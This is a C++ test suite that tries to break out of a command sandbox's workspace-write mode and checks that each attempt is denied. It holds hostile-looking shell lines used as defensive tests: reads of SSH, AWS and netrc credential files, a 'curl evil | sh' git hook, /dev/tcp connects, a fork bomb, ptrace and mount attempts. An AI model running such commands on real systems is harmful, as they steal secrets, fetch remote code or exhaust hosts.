// The escape suite (ctest label `sandbox`): real attempts to get out of workspace-write, each of
// which must fail for the right reason. HOME points at a temp folder with planted fake secrets;
// the real ~/.ssh is never touched. A test whose mechanism this kernel lacks prints SKIP and why.

// Listeners (the probe report printed first) need Catch2's external interfaces.
#define CATCH_CONFIG_EXTERNAL_INTERFACES
#include <catch2/catch.hpp>
// (keep the define above the include)

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <iostream>
#include <thread>

#include "sandbox/probe.hpp"
#include "sandbox/run.hpp"
#include "tests/support/temp_dir.hpp"

using namespace osprey::sandbox;
using osprey::test::TempDir;
namespace fs = std::filesystem;

namespace {

// The probe, once per process, printed before the first test (the suite's header).
const ProbeReport& report() {
    static const ProbeReport r = [] {
        ProbeReport p = probe();
        std::cout << format_report(p) << std::flush;
        return p;
    }();
    return r;
}

struct ReportListener : Catch::TestEventListenerBase {
    using TestEventListenerBase::TestEventListenerBase;
    void testRunStarting(const Catch::TestRunInfo&) override { (void)report(); }
};
CATCH_REGISTER_LISTENER(ReportListener)

// Skips (visibly) when a layer is missing here.
#define REQUIRE_LAYER(ok, reason)                                              \
    do {                                                                       \
        if (!(ok)) {                                                           \
            WARN("SKIP: " << reason << " (see `osprey sandbox check` above)"); \
            return;                                                            \
        }                                                                      \
    } while (false)

void write_file(const fs::path& p, const std::string& text) {
    fs::create_directories(p.parent_path());
    std::ofstream(p) << text;
}

std::string read_file(const fs::path& p) {
    std::ifstream in(p);
    return std::string(std::istreambuf_iterator<char>(in), {});
}

std::string python() {
    for (const char* p : {"/usr/bin/python3", "/usr/local/bin/python3"}) {
        if (access(p, X_OK) == 0) {
            return p;
        }
    }
    return {};
}

bool has_denial(const RunResult& r, const std::string& kind) {
    for (const auto& d : r.denials) {
        if (d.kind == kind) {
            return true;
        }
    }
    return false;
}

// A workspace and a fake HOME with planted secrets.
struct Scene {
    TempDir workspace;
    TempDir home;
    Policy policy;

    Scene() {
        write_file(home.path() / ".ssh/id_ed25519", "FAKE-PRIVATE-KEY-osprey-test\n");
        write_file(home.path() / ".aws/credentials", "aws_secret_access_key=FAKE-AWS-osprey\n");
        write_file(home.path() / ".netrc", "machine example.com password FAKE-NETRC-osprey\n");
        write_file(home.path() / ".bashrc", "# fake\n");
        policy.mode = Mode::workspace_write;
        policy.workspace = workspace.path();
        policy.home = home.path();
        policy.limits.timeout = std::chrono::seconds(30);
    }

    RunResult sh(const std::string& script) const {
        Command c = Command::shell(script);
        std::vector<std::string> env = {
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            "HOME=" + home.path().string(), "LANG=C"};
        c.environment = env;
        RunResult r = run(c, policy);
        UNSCOPED_INFO("script: " << script << "\nstdout: " << r.out << "\nstderr: " << r.err << "\n"
                                 << r.explain());
        return r;
    }
};

}  // namespace

TEST_CASE("escape: write to $HOME is denied", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.mount_namespace || report().workspace_write.landlock_abi,
                  "no filesystem confinement");
    const auto r = s.sh("echo pwned > \"$HOME/pwned\"; echo more >> \"$HOME/.bashrc\"");
    CHECK_FALSE(r.ok());
    CHECK(has_denial(r, "fs-write"));
    CHECK_FALSE(fs::exists(s.home.path() / "pwned"));
    CHECK(read_file(s.home.path() / ".bashrc") == "# fake\n");
}

TEST_CASE("escape: write to /etc is denied", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.mount_namespace || report().workspace_write.landlock_abi,
                  "no filesystem confinement");
    const auto r = s.sh("echo pwned > /etc/osprey-escape-test");
    CHECK(r.exit_code != 0);
    CHECK(has_denial(r, "fs-write"));
    CHECK(r.err.find("/etc/osprey-escape-test") != std::string::npos);
    CHECK_FALSE(fs::exists("/etc/osprey-escape-test"));
}

TEST_CASE("escape: /tmp outside the private temp is out of reach", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.mount_namespace, "no mount namespace (private /tmp)");
    TempDir outside;
    write_file(outside.path() / "victim.txt", "original\n");
    const std::string name = "osprey-escape-" + std::to_string(getpid());
    const auto r = s.sh("echo pwned > " + (outside.path() / "victim.txt").string() +
                        "; echo private > /tmp/" + name + " && cat /tmp/" + name);
    // The host's /tmp is not there: the existing file cannot be reached, a new one stays private.
    CHECK(r.err.find("No such file or directory") != std::string::npos);
    CHECK(r.out == "private\n");
    CHECK(read_file(outside.path() / "victim.txt") == "original\n");
    CHECK_FALSE(fs::exists("/tmp/" + name));
}

TEST_CASE("escape: the workspace's .git/hooks is read-only", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.mount_namespace, "no mount namespace (read-only .git)");
    fs::create_directories(s.workspace.path() / ".git/hooks");
    write_file(s.workspace.path() / ".git/HEAD", "ref: refs/heads/main\n");
    const auto r = s.sh(
        "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x "
        ".git/hooks/pre-commit; echo ok > allowed.txt");
    CHECK(has_denial(r, "fs-write"));
    bool mentions_git = false;
    for (const auto& d : r.denials) {
        mentions_git = mentions_git || d.why.find(".git") != std::string::npos;
    }
    CHECK(mentions_git);
    CHECK_FALSE(fs::exists(s.workspace.path() / ".git/hooks/pre-commit"));
    CHECK(read_file(s.workspace.path() / "allowed.txt") == "ok\n");
}

TEST_CASE("escape: planted secrets in ~/.ssh, ~/.aws and ~/.netrc are hidden", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.mount_namespace || report().workspace_write.landlock_abi,
                  "neither a mount namespace nor Landlock (hidden paths)");
    const auto r = s.sh("cat ~/.ssh/id_*; cat ~/.aws/credentials; cat ~/.netrc; ls -a ~/.ssh");
    CHECK(r.out.find("FAKE") == std::string::npos);
    CHECK(r.err.find("FAKE") == std::string::npos);
    CHECK(has_denial(r, "secret"));
}

TEST_CASE("escape: a symlink in the workspace pointing outside leads nowhere", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.mount_namespace || report().workspace_write.landlock_abi,
                  "neither a mount namespace nor Landlock");
    fs::create_symlink(s.home.path() / ".ssh/id_ed25519", s.workspace.path() / "key");
    fs::create_symlink("/etc", s.workspace.path() / "etc-link");
    fs::create_symlink(s.home.path(), s.workspace.path() / "home-link");
    const auto r = s.sh(
        "cat key; echo pwned > etc-link/osprey-escape-test; echo pwned > "
        "home-link/pwned");
    CHECK(r.out.find("FAKE") == std::string::npos);
    CHECK(has_denial(r, "fs-write"));
    CHECK_FALSE(fs::exists("/etc/osprey-escape-test"));
    CHECK_FALSE(fs::exists(s.home.path() / "pwned"));
}

TEST_CASE("escape: connecting to a TCP listener on the host's 127.0.0.1 fails", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.network_namespace || report().workspace_write.seccomp,
                  "no network namespace and no seccomp");
    const int listener = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    REQUIRE(listener >= 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    REQUIRE(bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
    REQUIRE(listen(listener, 4) == 0);
    socklen_t len = sizeof addr;
    REQUIRE(getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len) == 0);
    const std::string port = std::to_string(ntohs(addr.sin_port));
    const auto r = s.sh("exec 3<>/dev/tcp/127.0.0.1/" + port + " && echo connected");
    CHECK(r.out.find("connected") == std::string::npos);
    CHECK(r.exit_code != 0);
    CHECK(has_denial(r, "network"));
    // And the listener saw nothing.
    CHECK(accept(listener, nullptr, nullptr) < 0);
    close(listener);
}

TEST_CASE("escape: host daemon sockets under /run are out of reach", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.mount_namespace, "no mount namespace (private /run)");
    const std::string py = python();
    REQUIRE_LAYER(!py.empty(), "python3 is not installed");
    // A stand-in for docker.sock / postgres / dbus: a Unix listener in the host's /run.
    const std::string path = "/run/osprey-escape-" + std::to_string(getpid()) + ".sock";
    const int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    REQUIRE(listener >= 0);
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    std::snprintf(addr.sun_path, sizeof addr.sun_path, "%s", path.c_str());
    if (bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
        close(listener);
        WARN("SKIP: cannot create a socket in /run here (not root?)");
        return;
    }
    REQUIRE(listen(listener, 4) == 0);
    chmod(path.c_str(), 0777);
    const auto r = s.sh(py + " -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('" +
                        path + "'); print('connected')\"");
    CHECK(r.out.find("connected") == std::string::npos);
    CHECK(accept(listener, nullptr, nullptr) < 0);
    close(listener);
    unlink(path.c_str());
}

TEST_CASE("escape: DNS names do not resolve", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.network_namespace, "no network namespace");
    const std::string py = python();
    REQUIRE_LAYER(!py.empty(), "python3 is not installed");
    const auto r = s.sh(py +
                        " -c \"import socket; print(socket.getaddrinfo('example.com', 443))\"; "
                        "getent hosts example.com && echo resolved");
    CHECK(r.out.find("resolved") == std::string::npos);
    CHECK(r.out.find("443") == std::string::npos);
    CHECK(has_denial(r, "network"));
}

TEST_CASE("escape: ptrace of the parent is denied", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.seccomp, "seccomp is not in force");
    const std::string py = python();
    REQUIRE_LAYER(!py.empty(), "python3 is not installed");
    // PTRACE_ATTACH (16) to the shell that started python.
    const auto r = s.sh(py +
                        " -c \"import ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                        "rc = libc.ptrace(16, os.getppid(), 0, 0)\n"
                        "if rc == -1: sys.exit('ptrace: ' + os.strerror(ctypes.get_errno()))\n"
                        "print('attached')\"");
    CHECK(r.out.find("attached") == std::string::npos);
    CHECK(r.err.find("ptrace: Operation not permitted") != std::string::npos);
    CHECK(has_denial(r, "syscall"));
}

TEST_CASE("escape: a fork bomb is bounded and the host stays fine", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.pid_namespace && report().workspace_write.proc_mounted,
                  "no PID namespace with a private /proc (process watchdog)");
    s.policy.limits.max_processes = 64;
    s.policy.limits.timeout = std::chrono::seconds(30);
    const auto start = std::chrono::steady_clock::now();
    const auto r = s.sh("bomb() { bomb | bomb & }; bomb; sleep 20");
    // The watchdog ends the run at the cap (as root, where RLIMIT_NPROC does not apply); for
    // other users RLIMIT_NPROC refuses the forks first. Either way it is bounded and explained.
    CHECK((r.reason == EndReason::process_cap || has_denial(r, "process-cap")));
    CHECK(has_denial(r, "process-cap"));
    CHECK(std::chrono::steady_clock::now() - start < std::chrono::seconds(20));
    // The host can still start processes.
    const auto after = s.sh("echo alive");
    CHECK(after.out == "alive\n");
}

TEST_CASE("escape: allocating past the memory cap fails", "[escape]") {
    Scene s;
    const std::string py = python();
    REQUIRE_LAYER(!py.empty(), "python3 is not installed");
    s.policy.limits.memory_bytes = 512ULL << 20;
    const auto r = s.sh(py + " -c \"b = bytearray(2 * 1024 * 1024 * 1024); print('allocated')\"");
    CHECK(r.out.find("allocated") == std::string::npos);
    CHECK(r.reason == EndReason::memory_cap);
    CHECK(has_denial(r, "memory-cap"));
}

TEST_CASE("escape: a setsid-detached child does not outlive the timeout", "[escape]") {
    Scene s;
    s.policy.limits.timeout = std::chrono::milliseconds(700);
    const fs::path marker = s.workspace.path() / "escaped";
    const auto r =
        s.sh("setsid sh -c 'sleep 1.5; echo escaped > " + marker.string() + "' & sleep 30");
    CHECK(r.reason == EndReason::timeout);
    std::this_thread::sleep_for(std::chrono::milliseconds(2000));
    CHECK_FALSE(fs::exists(marker));
}

TEST_CASE("escape: a detached daemon does not outlive its command", "[escape]") {
    Scene s;
    const fs::path marker = s.workspace.path() / "daemon-ran";
    const auto r = s.sh("setsid -f sh -c 'sleep 1; echo ran > " + marker.string() + "'; exit 0");
    CHECK(r.ok());
    std::this_thread::sleep_for(std::chrono::milliseconds(1500));
    CHECK_FALSE(fs::exists(marker));
}

TEST_CASE("escape: /proc and /sys cannot be written", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.mount_namespace || report().workspace_write.landlock_abi,
                  "no filesystem confinement");
    // Harmless targets (its own name; a sysfs value written back unchanged): the guard under test
    // is the one that protects sysrq-trigger and the writable sysctls.
    const auto r = s.sh(
        "echo renamed > /proc/self/comm && echo wrote-proc; "
        "v=$(cat /sys/kernel/mm/ksm/run) && echo \"$v\" > /sys/kernel/mm/ksm/run && "
        "echo wrote-sys");
    CHECK(r.out.find("wrote") == std::string::npos);
    CHECK(has_denial(r, "fs-write"));
}

TEST_CASE("escape: mount, unshare and chroot are denied", "[escape]") {
    Scene s;
    REQUIRE_LAYER(report().workspace_write.seccomp, "seccomp is not in force");
    for (const char* attempt :
         {"mount -t tmpfs none /mnt", "unshare -U -r true", "unshare -m true", "chroot / true"}) {
        const auto r = s.sh(std::string(attempt) + " && echo escaped");
        INFO(attempt);
        CHECK(r.out.find("escaped") == std::string::npos);
        CHECK(r.exit_code != 0);
        CHECK(has_denial(r, "syscall"));
    }
}

TEST_CASE("escape: without namespaces Landlock still confines writes, hides keys and says so",
          "[escape][fallback]") {
    Scene s;
    REQUIRE_LAYER(landlock_available(), "Landlock is not supported by this kernel");
    s.policy.namespaces = false;
    const auto r = s.sh(
        "echo pwned > /etc/osprey-escape-test; echo pwned > \"$HOME/pwned\"; "
        "echo ok > inside.txt; echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"; "
        "cat ~/.ssh/id_ed25519 ~/.aws/credentials");
    CHECK_FALSE(fs::exists("/etc/osprey-escape-test"));
    CHECK_FALSE(fs::exists(s.home.path() / "pwned"));
    CHECK(read_file(s.workspace.path() / "inside.txt") == "ok\n");
    CHECK(r.out == "t\n");
    CHECK(r.err.find("FAKE") == std::string::npos);
    CHECK(has_denial(r, "fs-write"));
    CHECK(has_denial(r, "secret"));
    CHECK_FALSE(r.degraded.empty());
}

TEST_CASE("escape: a required mechanism that is missing fails closed", "[escape][fallback]") {
    Scene s;
    s.policy.namespaces = false;
    s.policy.require = {Requirement::pid};
    CHECK_THROWS_AS(s.sh("true"), SandboxError);
}
